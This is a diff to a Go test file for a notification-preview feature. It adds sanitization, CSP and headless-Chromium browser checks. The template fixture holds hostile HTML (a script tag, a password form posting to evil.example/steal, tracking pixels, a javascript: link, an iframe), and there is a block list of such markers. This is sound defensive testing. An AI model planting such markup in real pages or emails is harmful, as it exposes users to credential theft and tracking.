@@ -10,6 +10,8 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/chromedp/chromedp"
 )
 
 const notifyConfig = `
@@ -37,6 +39,9 @@ orgs:
         html: |
           <p><img src="{{.Org.LogoURL}}" alt=""> {{.Org.Name}} invites {{.User.Email}}.</p>
           <p><a href="{{.Link}}">Accept</a> within {{.Expires}}. {{.Org.Support}}</p>
+          <script>alert(1)</script><form action="https://evil.example/steal"><input type="password" name="p"></form>
+          <img src="https://track.example/open.gif" width="1" height="1"><a href="javascript:alert(1)" onclick="alert(2)">Details</a>
+          <p style="color: #b00020; background-image: url(https://track.example/bg.gif)">Acme</p><iframe src="https://evil.example/"></iframe>
   - slug: labs
     name: Acme Labs <R&D>
     parent: acme
@@ -92,6 +97,16 @@ func TestNotificationPreview(t *testing.T) {
 		!strings.Contains(m["html"], "Acme IT helpdesk: extension 4242") || !strings.Contains(m["html"], `href="`+strings.ReplaceAll(login, "&", "&amp;")) {
 		t.Errorf("html %s", m["html"])
 	}
+	// The org's hostile markup is gone from what would be sent; its
+	// harmless parts stay.
+	for _, bad := range []string{"<script", "alert", "<form", "<input", "evil.example", "track.example", "javascript:", "onclick", "<iframe", "url("} {
+		if strings.Contains(m["html"], bad) {
+			t.Errorf("the html part keeps %q:\n%s", bad, m["html"])
+		}
+	}
+	if !strings.Contains(m["html"], `<p style="color: #b00020">Acme</p>`) || !strings.Contains(m["html"], "Details") {
+		t.Errorf("the html part lost its harmless markup:\n%s", m["html"])
+	}
 	// The logo link is absolute, on the host the org's people use, and
 	// Gatehouse serves it.
 	src := regexp.MustCompile(`<img src="([^"]+)"`).FindStringSubmatch(m["html"])
@@ -117,10 +132,19 @@ func TestNotificationPreview(t *testing.T) {
 	if !strings.Contains(mfa["subject"], "428193") || !strings.Contains(mfa["sms"], "428193") {
 		t.Errorf("mfa: %v", mfa)
 	}
+	// The HTML preview loads and runs nothing: its CSP allows no
+	// source but data: images, and the logo comes inlined.
 	resp, body = get("/notifications/acme/invitation?part=html")
-	if resp.Header.Get("Content-Type") != "text/html; charset=utf-8" || !strings.HasPrefix(resp.Header.Get("Content-Security-Policy"), "sandbox;") ||
-		!strings.Contains(body, `href="http://login.acme.localhost:`+g.port+`/.gatehouse/login?token=EXAMPLE"`) {
+	const previewCSP = "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'none'"
+	if resp.Header.Get("Content-Type") != "text/html; charset=utf-8" || resp.Header.Get("Content-Security-Policy") != previewCSP ||
+		!strings.Contains(body, `href="http://login.acme.localhost:`+g.port+`/.gatehouse/login?token=EXAMPLE"`) ||
+		!strings.Contains(body, `<img src="data:image/svg+xml;base64,`) || strings.Contains(body, "/.gatehouse/assets/") {
 		t.Errorf("html part: %v %s", resp.Header, body)
+	}
+	for _, p := range []string{"/notifications/acme/invitation", "/notifications/acme/invitation?part=text"} {
+		if resp, _ := get(p); resp.Header.Get("Content-Security-Policy") != "default-src 'none'; frame-ancestors 'none'" {
+			t.Errorf("%s: CSP %q", p, resp.Header.Get("Content-Security-Policy"))
+		}
 	}
 	for path, code := range map[string]int{"/notifications/nope/invitation": 404, "/notifications/acme/fax": 404, "/notifications/acme/invitation?part=pdf": 400} {
 		if resp, body := get(path); resp.StatusCode != code {
@@ -138,11 +162,20 @@ func TestNotificationPreview(t *testing.T) {
 	if out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--out", outDir).CombinedOutput(); err != nil {
 		t.Fatalf("preview --out: %v %s", err, out)
 	}
-	for file, want := range map[string]string{"invitation.subject.txt": m["subject"], "invitation.txt": m["text"], "invitation.html": m["html"], "invitation.sms.txt": m["sms"]} {
+	// The HTML file is the preview document: the message as sent, with
+	// a CSP <meta> and the logo inlined.
+	meta := `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'">`
+	inlined := regexp.MustCompile(`<img src="data:image/svg\+xml;base64,[A-Za-z0-9+/=]+"`)
+	for file, want := range map[string]string{"invitation.subject.txt": m["subject"], "invitation.txt": m["text"], "invitation.html": meta + m["html"], "invitation.sms.txt": m["sms"]} {
 		b, err := os.ReadFile(filepath.Join(outDir, file))
-		if err != nil || string(b) != want {
+		got := inlined.ReplaceAllString(string(b), `<img src="`+src[1]+`"`)
+		if err != nil || got != want || file == "invitation.html" && !inlined.Match(b) {
 			t.Errorf("%s: %v\n got %q\nwant %q", file, err, b, want)
 		}
+	}
+	out, err = exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "labs", "--kind", "invitation", "--part", "html").CombinedOutput()
+	if err != nil || !strings.HasPrefix(string(out), meta) || strings.Contains(string(out), "<script") {
+		t.Errorf("preview html: %v %s", err, out)
 	}
 	if files, _ := filepath.Glob(filepath.Join(outDir, "*")); len(files) != 16 {
 		t.Errorf("%d files, want 4 messages × 4 parts", len(files))
@@ -162,5 +195,49 @@ func TestNotificationPreview(t *testing.T) {
 	out, err = exec.Command(binary, "config", "validate", bad).CombinedOutput()
 	if err == nil || !strings.Contains(string(out), "orgs[1].notifications.invitation: notify: text:") || !strings.Contains(string(out), "Nmae") {
 		t.Errorf("validate: %v %s", err, out)
+	}
+}
+
+// TestBrowserNotificationPreview opens an org's HTML preview, from the
+// ops listener and from `notify preview --out`, in Chromium: the logo
+// shows (inlined), nothing is requested from anywhere else, and the
+// template's script and form are not there.
+func TestBrowserNotificationPreview(t *testing.T) {
+	exe := chromium(t)
+	dir := t.TempDir()
+	logo := `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#b00020"/></svg>`
+	if err := os.WriteFile(filepath.Join(dir, "logo.svg"), []byte(logo), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	g := start(t, strings.ReplaceAll(notifyConfig, "{{DIR}}", dir))
+	outDir := t.TempDir()
+	if out, err := exec.Command(binary, "notify", "preview", "--config", g.cfgPath, "--org", "acme", "--kind", "invitation", "--out", outDir).CombinedOutput(); err != nil {
+		t.Fatalf("preview --out: %v %s", err, out)
+	}
+	arts := artifacts(t)
+	for name, u := range map[string]string{
+		"ops":  "http://" + g.ops + "/notifications/acme/invitation?part=html",
+		"file": "file://" + filepath.Join(outDir, "invitation.html"),
+	} {
+		t.Run(name, func(t *testing.T) {
+			ctx, requests := chrome(t, exe)
+			if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.WaitVisible(chromedp.CSS("img"))); err != nil {
+				t.Fatal(err)
+			}
+			ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector("img").complete && document.querySelector("img").naturalWidth === 40 &&
+				document.forms.length === 0 && document.scripts.length === 0 && document.querySelectorAll("iframe,input").length === 0`))
+			if err != nil || !ok {
+				t.Fatalf("the preview: logo not shown, or a form, script or frame present (%v)", err)
+			}
+			buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
+			if err == nil {
+				os.WriteFile(filepath.Join(arts, "notification-preview-"+name+".png"), buf, 0o644)
+			}
+			for _, r := range requests() {
+				if r != u && !strings.HasPrefix(r, "data:") {
+					t.Errorf("the preview requested %s", r)
+				}
+			}
+		})
 	}
 }
